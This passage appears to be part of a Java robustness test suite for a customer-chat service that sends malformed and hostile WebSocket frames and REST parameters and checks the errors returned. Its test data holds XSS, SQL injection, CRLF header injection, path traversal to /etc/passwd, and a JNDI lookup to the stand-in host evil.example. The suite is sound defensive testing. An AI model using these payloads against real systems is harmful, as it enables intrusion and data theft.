        cases.add(raw("malformed", "not JSON", "{not json", malformed));
        cases.add(raw("malformed", "truncated", "{\"type\":\"send\",\"conversationId\":\"" + own
                + "\",\"clientMessageId\":\"m\",\"text\":\"hal", malformed));
        cases.add(raw("malformed", "truncated inside a nested object", "{\"type\":\"resume\",\"lastSeq\":{\"" + own
                + "\":1", malformed));
        cases.add(raw("malformed", "empty", "", Set.of("error:MALFORMED_JSON", "error:INVALID_FRAME")));
        cases.add(raw("malformed", "deeply nested", "{\"type\":\"ping\",\"x\":" + "[".repeat(5000) + "]".repeat(5000)
                + "}", malformed));
        cases.add(raw("wrong type", "null", "null", invalid));
        cases.add(raw("wrong type", "an array", "[1,2,3]", invalid));
        cases.add(raw("wrong type", "a string", "\"ping\"", invalid));
        cases.add(raw("wrong type", "a number", "42", invalid));
        cases.add(raw("wrong type", "no type", "{}", invalid));
        cases.add(frame("wrong type", "type is a number", Map.of("type", 5), invalid));
        cases.add(frame("wrong type", "type is a list", Map.of("type", List.of("ping")), invalid));
        cases.add(frame("unknown", "unknown type", Map.of("type", "teleport"), Set.of("error:UNKNOWN_TYPE")));
        cases.add(frame("unknown", "type in capitals", Map.of("type", "PING"), Set.of("error:UNKNOWN_TYPE")));
        cases.add(frame("unknown", "type with a NUL", Map.of("type", "ping\u0000"), Set.of("error:UNKNOWN_TYPE")));
        cases.add(frame("unknown fields", "ping with unknown fields", Map.of("type", "ping", "extra",
                Map.of("nested", List.of(1, 2)), "__proto__", Map.of("admin", true)), Set.of("pong")));
        cases.add(frame("wrong type", "resume: lastSeq a string", Map.of("type", "resume", "lastSeq", "x"), invalid));
        cases.add(frame("wrong type", "resume: seq a word", Map.of("type", "resume", "lastSeq", Map.of(own, "abc")),
                invalid));
        cases.add(frame("wrong type", "resume: seq negative", Map.of("type", "resume", "lastSeq", Map.of(own, -1)),
                invalid));
        cases.add(frame("wrong type", "resume: seq huge", Map.of("type", "resume", "lastSeq", Map.of(own, 1e30)),
                invalid));
        cases.add(frame("unicode", "resume: NUL in an id", Map.of("type", "resume", "lastSeq",
                Map.of("c\u0000", 0)), invalid));
        cases.add(frame("wrong type", "send: text a number", send(agent, own, 5), Set.of("error:INVALID_MESSAGE")));
        cases.add(frame("wrong type", "send: no clientMessageId", Map.of("type", "send", "conversationId", own,
                "text", "hi"), Set.of("error:VALIDATION_FAILED")));
        cases.add(frame("wrong type", "send: clientMessageId an object", Map.of("type", "send", "conversationId", own,
                "clientMessageId", Map.of("a", 1), "text", "hi"), Set.of("error:VALIDATION_FAILED")));
        cases.add(frame("huge", "send: clientMessageId of 101 characters", Map.of("type", "send", "conversationId",
                own, "clientMessageId", "m".repeat(101), "text", "hi"), Set.of("error:VALIDATION_FAILED")));
        cases.add(frame("wrong type", "send: conversationId a number", Map.of("type", "send", "conversationId", 5,
                "clientMessageId", "m-" + UUID.randomUUID(), "text", "hi"),
                agent ? Set.of("error:VALIDATION_FAILED") : Set.of("ack")));
        cases.add(frame("wrong type", "typing: not a boolean", Map.of("type", "typing", "conversationId", own,
                "typing", "yes"), invalid));
        cases.add(frame("wrong type", "read: seq a word", Map.of("type", "read", "conversationId", own, "seq", "x"),
                invalid));
        cases.add(frame("wrong type", "read: seq 0", Map.of("type", "read", "conversationId", own, "seq", 0), invalid));
        cases.add(frame("id", "read: seq beyond the last message", Map.of("type", "read", "conversationId", own,
                "seq", 99_999_999), Set.of("error:UNKNOWN_SEQ")));
        cases.add(frame("unknown fields", "send with unknown fields", withExtra(send(agent, own, "unknown fields")),
                Set.of("ack")));
        cases.add(frame("unicode", "send: bidirectional override", send(agent, own, "\u202Egnp.exe\u202C"),
                Set.of("ack")));
        cases.add(frame("unicode", "send: zero-width characters", send(agent, own, "a\u200B\u200C\u200D\u2060b\uFEFF"),
                Set.of("ack")));
        cases.add(frame("unicode", "send: combining marks", send(agent, own, "Z" + "\u0301\u0316\u0334".repeat(100)),
                Set.of("ack")));
        cases.add(frame("unicode", "send: line separator", send(agent, own, "a\u2028b\u2029c"), Set.of("ack")));
        cases.add(frame("unicode", "send: 1000 emoji (the agents' limit)", send(agent, own, EMOJI.repeat(1000)),
                Set.of("ack")));
        cases.add(frame("unicode", "send: 1001 emoji", send(agent, own, EMOJI.repeat(1001)),
                agent ? Set.of("error:MESSAGE_TOO_LONG") : Set.of("ack")));
        cases.add(frame("unicode", "send: 4001 emoji", send(agent, own, EMOJI.repeat(4001)),
                Set.of("error:MESSAGE_TOO_LONG")));
        cases.add(frame("unicode", "send: a lone high surrogate", send(agent, own, "x\uD800y"),
                Set.of("error:INVALID_MESSAGE")));
        cases.add(frame("unicode", "send: a lone low surrogate", send(agent, own, "x\uDC00y"),
                Set.of("error:INVALID_MESSAGE")));
        cases.add(frame("unicode", "send: NUL", send(agent, own, "a\u0000b"), Set.of("error:INVALID_MESSAGE")));
        cases.add(frame("unicode", "send: NUL in the conversation id", Map.of("type", "send", "conversationId",
                own + "\u0000", "clientMessageId", "m-" + UUID.randomUUID(), "text", "hi"),
                Set.of("error:VALIDATION_FAILED")));
        cases.add(frame("injection", "send: img onerror", send(agent, own, INJECTION),
                agent ? Set.of("error:RESERVED_CHARACTERS") : Set.of("ack")));
        cases.add(frame("injection", "send: script element", send(agent, own, "<script>window.pwned=4</script>"),
                agent ? Set.of("error:RESERVED_CHARACTERS") : Set.of("ack")));
        // Too large to be read: its correlation id is unknown, so the error frame carries none.
        cases.add(raw("huge", "20 KB frame", json(EventJson.mapper().valueToTree(send(agent, own, "x".repeat(20_000)))),
                Set.of("error:FRAME_TOO_LARGE")));
        cases.add(frame("cross-conversation", "send: another conversation", send(agent, foreign, "hello"),
                Set.of("error:NOT_FOUND")));
        cases.add(frame("id", "send: a guessed conversation id", send(agent, UUID.randomUUID().toString(), "hello"),
                Set.of("error:NOT_FOUND")));
        cases.add(frame("cross-conversation", "read: another conversation", Map.of("type", "read", "conversationId",
                foreign, "seq", 1), Set.of("error:NOT_FOUND")));
        cases.add(frame("cross-conversation", "typing: another conversation", Map.of("type", "typing",
                "conversationId", foreign, "typing", true), Set.of("silent")));
        cases.add(frame("cross-conversation", "resume: another conversation", Map.of("type", "resume", "lastSeq",
                Map.of(foreign, 0)), Set.of("error:NOT_FOUND")));
        Map<String, Object> guessed = new LinkedHashMap<>();
        for (int i = 0; i < 5; i++) {
            guessed.put(UUID.randomUUID().toString(), 0);
        }
        FrameCase guessing = frame("id", "resume: five guessed ids", Map.of("type", "resume", "lastSeq", guessed),
                Set.of("error:NOT_FOUND"));
        cases.add(new FrameCase(guessing.family(), guessing.name(), guessing.text(), guessing.correlationId(),
                guessing.expected(), 5));
        Map<String, Object> tooMany = new LinkedHashMap<>();
        for (int i = 0; i < 21; i++) {
            tooMany.put("c-" + i, 0);
        }
        cases.add(frame("flood", "resume: 21 conversations", Map.of("type", "resume", "lastSeq", tooMany),
                Set.of("error:RESUME_TOO_LARGE")));
        return cases;
    }

    private static Map<String, Object> send(boolean agent, String conversationId, Object text) {
        Map<String, Object> frame = new LinkedHashMap<>();
        frame.put("type", "send");
        frame.put("conversationId", conversationId);
        frame.put("clientMessageId", "m-" + UUID.randomUUID());
        frame.put("text", text);
        return frame;
    }

    private static Map<String, Object> withExtra(Map<String, Object> frame) {
        Map<String, Object> extended = new LinkedHashMap<>(frame);
        extended.put("senderType", "SYSTEM");
        extended.put("agentId", "admin");
        extended.put("nested", Map.of("a", List.of(1, Map.of("b", true))));
        return extended;
    }

    private static FrameCase raw(String family, String name, String text, Set<String> expected) {
        return new FrameCase(family, name, text, null, expected, 1);
    }

    private static FrameCase frame(String family, String name, Map<String, ?> fields, Set<String> expected) {
        String correlationId = "h-" + UUID.randomUUID();
        Map<String, Object> frame = new LinkedHashMap<>(fields);
        frame.put("correlationId", correlationId);
        return new FrameCase(family, name, json(EventJson.mapper().valueToTree(frame)), correlationId, expected, 1);
    }

    /**
     * Sends each case on one socket, paced under the socket's rate limit, and checks the answer: the frame with its
     * correlation id, or for a frame without one the error frame without one; a probe ping after each case shows
     * when everything before it was handled. Then a flood, and the socket must still answer.
     */
    private void frames(String socket, String url, String token, List<FrameCase> cases) {
        try (SocketClient client = SocketClient.connect(url, token)) {
            Pacer pacer = new Pacer();
            int probe = 0;
            for (FrameCase frameCase : cases) {
                pacer.take(frameCase.cost() + 1);
                int from = client.size();
                client.sendRaw(frameCase.text());
                String probeId = "probe-" + probe++;
                client.sendRaw("{\"type\":\"ping\",\"correlationId\":\"" + probeId + "\"}");
                String outcome = outcome(client, from, frameCase, probeId);
                report.count("socket", socket, frameCase.family() + " → " + outcome);
                if (!frameCase.expected().contains(outcome)) {
                    failures.add(socket + " [" + frameCase.family() + ": " + frameCase.name() + "] → " + outcome
                            + ", expected " + frameCase.expected());
                }
            }
            flood(socket, client);
        } catch (RuntimeException e) {
            failures.add(socket + ": the socket failed during the hostile frames: " + e);
        }
    }

    private static String outcome(SocketClient client, int from, FrameCase frameCase, String probeId) {
        Instant deadline = Instant.now().plus(ANSWER);
        Instant probedAt = null;
        boolean silentExpected = frameCase.expected().contains("silent");
        while (Instant.now().isBefore(deadline)) {
            List<JsonNode> received = client.frames();
            List<JsonNode> since = received.subList(Math.min(from, received.size()), received.size());
            String answer = null;
            for (JsonNode frame : since) {
                String type = frame.path("type").asText();
                String correlation = frame.path("correlationId").asText(null);
                if (probeId.equals(correlation)) {
                    probedAt = probedAt == null ? Instant.now() : probedAt;
                    continue;
                }
                boolean mine = frameCase.correlationId() == null ? correlation == null && type.equals("error")
                        : frameCase.correlationId().equals(correlation);
                if (mine && type.equals("error")) {
                    // a resume answers its refusals before "resumed": an error wins
                    return "error:" + frame.path("code").asText();
                }
                if (mine && answer == null && Set.of("ack", "pong", "resumed").contains(type)) {
                    answer = type;
                }
            }
            if (answer != null) {
                return answer;
            }
            if (client.isClosed()) {
                return "closed:" + client.closeCode();
            }
            // Once the probe is answered everything before it was read; an asynchronous answer (an ack, a refusal
            // after a look-up) may still be on its way, except for a frame that is never answered.
            if (probedAt != null && Instant.now().isAfter(probedAt.plusMillis(silentExpected ? 300
                    : frameCase.correlationId() == null ? 1000 : 10_000))) {
                return "silent";
            }
            sleep(Duration.ofMillis(20));
        }
        return probedAt != null ? "silent" : "no answer";
    }

    /** 60 frames at once: the rate limit refuses some, every one is answered, and the socket serves again after. */
    private void flood(String socket, SocketClient client) {
        int from = client.size();
        for (int i = 0; i < 60; i++) {
            client.sendRaw("{\"type\":\"ping\",\"correlationId\":\"flood-" + i + "\"}");
        }
        Instant deadline = Instant.now().plus(ANSWER);
        List<JsonNode> answers = List.of();
        while (Instant.now().isBefore(deadline)) {
            List<JsonNode> received = client.frames();
            answers = received.subList(Math.min(from, received.size()), received.size()).stream()
                    .filter(f -> f.path("correlationId").asText("").startsWith("flood-")).toList();
            if (answers.size() >= 60) {
                break;
            }
            sleep(Duration.ofMillis(20));
        }
        for (JsonNode answer : answers) {
            report.count("socket", socket, "flood → " + (answer.path("type").asText().equals("error")
                    ? "error:" + answer.path("code").asText() : answer.path("type").asText()));
        }
        if (answers.size() != 60 || answers.stream().noneMatch(f -> "RATE_LIMITED".equals(f.path("code").asText()))) {
            failures.add(socket + " [flood: 60 pings at once] → " + answers.size() + " answers, expected 60 with "
                    + "RATE_LIMITED among them");
        }
        sleep(Duration.ofMillis(2500));
        int after = client.size();
        client.sendRaw("{\"type\":\"ping\",\"correlationId\":\"after-flood\"}");
        try {
            client.awaitFrom(after, "pong", f -> "after-flood".equals(f.path("correlationId").asText()), ANSWER);
        } catch (AssertionError e) {
            failures.add(socket + ": no pong after the flood: " + e.getMessage());
        }
    }

    /** Frames the transport refuses: binary (the sockets speak text) and over 256 KiB (closed with 1009). */
    private void transportLimits(String socket, String url, String token) {
        try (SocketClient client = SocketClient.connect(url, token)) {
            client.sendBinary(new byte[] {1, 2, 3, 0, (byte) 0xFF});
            int from = client.size();
            client.sendRaw("{\"type\":\"ping\",\"correlationId\":\"after-binary\"}");
            String outcome;
            try {
                client.awaitFrom(from, "pong", f -> "after-binary".equals(f.path("correlationId").asText()), ANSWER);
                outcome = "ignored";
            } catch (AssertionError e) {
                outcome = client.isClosed() ? "closed:" + client.closeCode() : "no answer";
            }
            report.count("socket", socket, "binary frame → " + outcome);
            if (!Set.of("ignored", "closed:1003").contains(outcome)) {
                failures.add(socket + " [binary frame] → " + outcome);
            }
        } catch (RuntimeException e) {
            failures.add(socket + " [binary frame]: " + e);
        }
        try (SocketClient client = SocketClient.connect(url, token)) {
            try {
                client.sendRaw("{\"type\":\"ping\",\"x\":\"" + "x".repeat(300 * 1024) + "\"}");
            } catch (RuntimeException closedWhileSending) {
                // the gateway may close while the frame is still being sent
            }
            String outcome = client.awaitClosed(ANSWER) ? "closed:" + client.closeCode() : "open";
            report.count("socket", socket, "300 KB frame → " + outcome);
            if (!outcome.equals("closed:1009")) {
                failures.add(socket + " [300 KB frame] → " + outcome + ", expected closed:1009");
            }
        } catch (RuntimeException e) {
            failures.add(socket + " [300 KB frame]: " + e);
        }
    }

    /** The supervisor socket is read-only: whatever a client sends gets READ_ONLY_SOCKET, and it keeps pushing. */
    private void supervisorFrames(World world) {
        String socket = "/ws/supervisor";
        List<String> texts = new ArrayList<>();
        for (FrameCase frameCase : frameCases(world, true)) {
            texts.add(frameCase.text());
        }
        for (int i = 0; i < 100; i++) {
            texts.add("{\"type\":\"ping\",\"correlationId\":\"flood-" + i + "\"}");
        }
        try (SocketClient client = SocketClient.connect(world.ws() + socket, world.supervisorToken())) {
            client.await("overview", ANSWER);
            int from = client.size();
            for (String text : texts) {
                client.sendRaw(text);
            }
            Instant deadline = Instant.now().plus(ANSWER);
            List<JsonNode> errors = List.of();
            while (Instant.now().isBefore(deadline) && errors.size() < texts.size()) {
                List<JsonNode> received = client.frames();
                errors = received.subList(from, received.size()).stream()
                        .filter(f -> "error".equals(f.path("type").asText())).toList();
                sleep(Duration.ofMillis(20));
            }
            for (JsonNode error : errors) {
                report.count("socket", socket, "any frame → error:" + error.path("code").asText());
            }
            for (int i = errors.size(); i < texts.size(); i++) {
                report.count("socket", socket, "any frame → no answer");
            }
            if (errors.size() != texts.size() || errors.stream().anyMatch(e -> !"READ_ONLY_SOCKET".equals(
                    e.path("code").asText())) || client.isClosed()) {
                failures.add(socket + ": " + texts.size() + " frames got " + errors.size()
                        + " READ_ONLY_SOCKET errors" + (client.isClosed() ? " and the socket closed" : ""));
            }
        } catch (RuntimeException e) {
            failures.add(socket + ": " + e);
        }
    }

    /** After everything: the agent's desktop socket and the customer still talk to each other. */
    private void assertStillServed(World world) {
        String text = "still served " + UUID.randomUUID();
        Http.Response sent = world.customer().send(text);
        if (sent.status() != 202) {
            failures.add("the customer could not write after the hostile inputs: " + sent.status() + " " + sent.raw());
            return;
        }
        try {
            world.agent().awaitMessage(world.conversation(), text);
        } catch (AssertionError e) {
            failures.add("the agent's own socket no longer receives messages: " + e.getMessage());
        }
    }

    // ----------------------------------------------------------------------------------------------- values

    private static Map<String, String> pathValues(String parameter) {
        Map<String, String> values = new LinkedHashMap<>();
        values.put("a random id", UUID.randomUUID().toString());
        values.put("zero", "0");
        values.put("negative", "-1");
        values.put("beyond a long", "9223372036854775808");
        values.put("NUL", "%00");
        values.put("CR LF", "a%0D%0AX-Injected:%20yes");
        values.put("bidirectional override", "%E2%80%AEgnp.exe");
        values.put("zero-width", "a%E2%80%8Bb");
        values.put("emoji", "%F0%9F%98%80");
        values.put("a lone surrogate (invalid UTF-8)", "%ED%A0%80");
        values.put("script", "%3Cimg%20src%3Dx%20onerror%3Dalert(1)%3E");
        values.put("SQL", "'%20OR%20'1'%3D'1");
        values.put("dot segments", "..%2F..%2Fq%2Fmetrics");
        values.put("long", "a".repeat(3000));
        values.put("too long for the request line", "b".repeat(9000));
        if (parameter.equals("path")) {
            values.put("dot segments in a forwarded path", "..%2F..%2Fq%2Fhealth");
            values.put("backslash", "queues%5C..%5C..%5Cq");
        }
        return values;
    }

    private static Map<String, String> queryValues() {
        Map<String, String> values = new LinkedHashMap<>();
        values.put("not a number", "abc");
        values.put("negative", "-1");
        values.put("beyond a long", "99999999999999999999");
        values.put("a fraction", "1.5");
        values.put("NUL", "%00");
        values.put("script", "%3Cscript%3Ealert(1)%3C%2Fscript%3E");
        values.put("SQL wildcard", "%25%27%22_%5C");
        values.put("a lone surrogate (invalid UTF-8)", "%ED%A0%80");
        values.put("long", "q".repeat(3000));
        values.put("empty", "");
        return values;
    }

    private static Map<String, JsonNode> wrongTypes() {
        Map<String, JsonNode> values = new LinkedHashMap<>();
        values.put("a number", IntNode.valueOf(12345));
        values.put("a boolean", BooleanNode.TRUE);
        values.put("an array", EventJson.mapper().createArrayNode().add("x"));
        values.put("an object", EventJson.mapper().createObjectNode().put("a", 1));
        values.put("null", NullNode.getInstance());
        return values;
    }

    private static Map<String, String> stringValues() {
        Map<String, String> values = new LinkedHashMap<>();
        values.put("bidirectional override", "\u202Egnp.exe\u202C");
        values.put("right-to-left mark", "abc\u200Fdef");
        values.put("zero-width characters", "a\u200B\u200C\u200D\u2060b\uFEFF");
        values.put("combining marks", "Z" + "\u0301\u0316\u0334".repeat(60));
        values.put("a lone high surrogate", "x\uD800y");
        values.put("a lone low surrogate", "x\uDC00y");
        values.put("a reversed surrogate pair", "\uDE00\uD83D");
        values.put("1000 emoji", EMOJI.repeat(1000));
        values.put("1001 emoji", EMOJI.repeat(1001));
        values.put("NUL", "a\u0000b");
        values.put("CR LF", "a\r\nX-Injected: yes");
        values.put("line separator", "a\u2028b");
        values.put("bell", "a\u0007b");
        values.put("empty", "");
        values.put("blank", "   ");
        values.put("huge (100 000 characters)", "x".repeat(100_000));
        values.put("script: img onerror", INJECTION);
        values.put("script: element", "<script>window.pwned=5</script>");
        values.put("injection: SQL", "' OR '1'='1' --");
        values.put("injection: templates and lookups", "${jndi:ldap://evil.example/x} {{7*7}} #{7*7} %s%n");
        values.put("injection: path", "../../../../etc/passwd");
        return values;
    }

    private static Map<String, String> loginValues() {
        Map<String, String> values = new LinkedHashMap<>();
        values.put("a lone high surrogate", "x\uD800y");
        values.put("1001 emoji", EMOJI.repeat(1001));
        values.put("NUL", "a\u0000b");
        values.put("huge (100 000 characters)", "x".repeat(100_000));
        values.put("script: img onerror", INJECTION);
        return values;
    }

    // ----------------------------------------------------------------------------------------------- bodies

    /** The valid body of each operation that takes one (the hostile ones are made from it). */
    private static ObjectNode template(World world, String target) {
        Map<String, Object> body = switch (target) {
            case "POST /api/auth/login" -> Map.of("username", "nobody-hostile", "password", "wrong-password");
            case "POST /api/chats" -> Map.of("queueId", world.sink(), "customer", Map.of("name", "Hostile Probe",
                    "email", "probe@example.com", "phone", "+33 6 12 34 56 78"), "attributes",
                    Map.of("orderNumber", "A-1042"));
            case "POST /api/invitations" -> Map.of("queueId", world.sink(), "pageUrl", "https://shop.example/p");
            case "POST /api/chats/{conversationId}/messages" -> Map.of("clientMessageId", "h-customer", "text", "hello");
            case "POST /api/chats/{conversationId}/survey" -> Map.of("rating", 4, "comment", "fine");
            case "PUT /api/agent/state" -> Map.of("state", "AVAILABLE");
            case "POST /api/conversations/{conversationId}/messages" -> Map.of("clientMessageId", "h-agent",
                    "text", "hello");
            case "POST /api/conversations/{conversationId}/templates/{templateId}" -> Map.of("clientMessageId",
                    "h-template");
            case "POST /api/conversations/{conversationId}/wrap-up" -> Map.of("reasonCode", "NO_SUCH_REASON",
                    "note", "note");
            case "POST /api/conversations/{conversationId}/transfer" -> Map.of("targetType", "QUEUE", "targetId",
                    "no-such-queue");
            case "POST /api/conversations/{conversationId}/conference" -> Map.of("agentId", "no-such-agent");
            case "PUT /api/admin/accounts/{agentId}" -> Map.of("displayName", "Hostile Probe", "password",
                    "hostile-password", "roles", List.of("agent"));
            case "POST /api/admin/erasures" -> Map.of("conversationId", UUID.randomUUID().toString());
            case "PUT /api/admin/{owner}/{path}", "POST /api/admin/{owner}/{path}" -> Map.of("name", "probe");
            default -> null;
        };
        return body == null ? null : EventJson.mapper().valueToTree(body);
    }

    /** The token an operation's ordinary caller has. */
    private static String tokenFor(World world, String template) {
        if (template.startsWith("/api/admin")) {
            return world.adminToken();
        }
        if (template.startsWith("/api/supervisor")) {
            return world.supervisorToken();
        }
        if (template.startsWith("/api/chats/")) {
            return world.customer().token();
        }
        if (PUBLIC.stream().anyMatch(operation -> operation.endsWith(" " + template))) {
            return null;
        }
        return world.agent().token();
    }

    /** The path with its parameters filled in: the world's conversation, or harmless values; some overridden. */
    private static String concrete(World world, String template, Map<String, String> overrides) {
        Matcher parameter = PARAMETER.matcher(template);
        StringBuilder path = new StringBuilder();
        while (parameter.find()) {
            String name = parameter.group(1);
            String value = overrides.containsKey(name) ? overrides.get(name) : switch (name) {
                case "conversationId" -> world.conversation();
                case "templateId" -> "greeting";
                case "queueId" -> world.sink();
                case "agentId" -> "h-" + UUID.randomUUID().toString().substring(0, 8);
                case "owner" -> "routing";
                case "path" -> "hostile-probe";
                default -> UUID.randomUUID().toString();
            };
            parameter.appendReplacement(path, Matcher.quoteReplacement(value));
        }
        parameter.appendTail(path);
        return path.toString();
    }

    private static String normalise(String template) {
        return PARAMETER.matcher(template).replaceAll(match -> Matcher.quoteReplacement("{" + match.group(1) + "}"));
    }

    private static List<List<String>> leaves(JsonNode node, List<String> prefix) {
        List<List<String>> leaves = new ArrayList<>();
        for (Iterator<Map.Entry<String, JsonNode>> it = node.fields(); it.hasNext(); ) {
            Map.Entry<String, JsonNode> field = it.next();
            List<String> path = new ArrayList<>(prefix);
            path.add(field.getKey());
            if (field.getValue().isObject() && field.getValue().size() > 0) {
                leaves.addAll(leaves(field.getValue(), path));
            } else {
                leaves.add(path);
            }
        }
        return leaves;
    }

    private static List<String> firstLeaf(ObjectNode template) {
        List<List<String>> leaves = leaves(template, List.of());
        return leaves.isEmpty() ? List.of("x") : leaves.get(0);
    }

    private static JsonNode node(JsonNode root, List<String> path) {
        JsonNode node = root;
        for (String name : path) {
            node = node.path(name);
        }
        return node;
    }

    private static ObjectNode with(ObjectNode template, List<String> path, JsonNode value) {
        ObjectNode copy = template.deepCopy();
        ObjectNode parent = copy;
        for (String name : path.subList(0, path.size() - 1)) {
            parent = (ObjectNode) parent.get(name);
        }
        parent.set(path.get(path.size() - 1), value);
        return copy;
    }

    private static ObjectNode withUnknownFields(ObjectNode template) {
        ObjectNode copy = template.deepCopy();
        copy.put("zzUnknown", "x");
        copy.putObject("zzNested").putArray("list").add(1).addObject().put("deep", true);
        for (Iterator<Map.Entry<String, JsonNode>> it = copy.fields(); it.hasNext(); ) {
            Map.Entry<String, JsonNode> field = it.next();
            if (field.getValue().isObject() && !field.getKey().startsWith("zz") && !field.getKey().equals("attributes")) {
                ((ObjectNode) field.getValue()).put("zzUnknownInside", 1);
            }
        }
        return copy;
    }

    /** The body cut off inside its first nested object (or before its end when it has none). */
    private static String truncatedNested(ObjectNode template) {
        String valid = json(template);
        int nested = valid.indexOf('{', 1);
        return nested > 0 ? valid.substring(0, nested + Math.max(1, (valid.indexOf('}', nested) - nested) / 2))
                : valid.substring(0, valid.length() - 1);
    }

    private static byte[] bodyBytes(Object body) {
        if (body == null) {
            return null;
        }
        JsonNode tree = body instanceof JsonNode node ? node : EventJson.mapper().valueToTree(body);
        return json(tree).getBytes(StandardCharsets.UTF_8);
    }

    /**
     * The JSON text of {@code tree}, with lone surrogates written as {@code \\uXXXX} escapes: raw, they cannot be
     * encoded in UTF-8 (the client would send '?'), escaped they reach the server as the JSON says.
     */
    private static String json(JsonNode tree) {
        String text = EventJson.write(tree);
        StringBuilder escaped = new StringBuilder(text.length());
        for (int i = 0; i < text.length(); i++) {
            char c = text.charAt(i);
            boolean pair = Character.isHighSurrogate(c) && i + 1 < text.length()
                    && Character.isLowSurrogate(text.charAt(i + 1));
            if (pair) {
                escaped.append(c).append(text.charAt(++i));
            } else if (Character.isSurrogate(c)) {
                escaped.append(String.format("\\u%04x", (int) c));
            } else {
                escaped.append(c);
            }
        }
        return escaped.toString();
    }

    private static byte[] concat(byte[] first, byte[] second) {
        byte[] both = new byte[first.length + second.length];
        System.arraycopy(first, 0, both, 0, first.length);
        System.arraycopy(second, 0, both, first.length, second.length);
        return both;
    }

    private static String abbreviate(String text) {
        return text == null ? "" : text.length() > 300 ? text.substring(0, 300) + "…" : text;
    }

    private static void sleep(Duration duration) {
        try {
            Thread.sleep(duration.toMillis());
        } catch (InterruptedException e) {
            Thread.currentThread().interrupt();
            throw new IllegalStateException(e);
        }
    }

    /** Keeps a socket under its rate limit (burst 20, 10 per second): a little slower, to leave a margin. */
    private static final class Pacer {

        private static final double PER_SECOND = 8;
        private static final double BURST = 16;

        private double tokens = BURST;
        private long last = System.nanoTime();

        void take(int cost) {
            refill();
            if (tokens < cost) {
                sleep(Duration.ofMillis((long) Math.ceil((cost - tokens) / PER_SECOND * 1000)));
                refill();
            }
            tokens -= cost;
        }

        private void refill() {
            long now = System.nanoTime();
            tokens = Math.min(BURST, tokens + (now - last) / 1e9 * PER_SECOND);
            last = now;
        }
    }
}
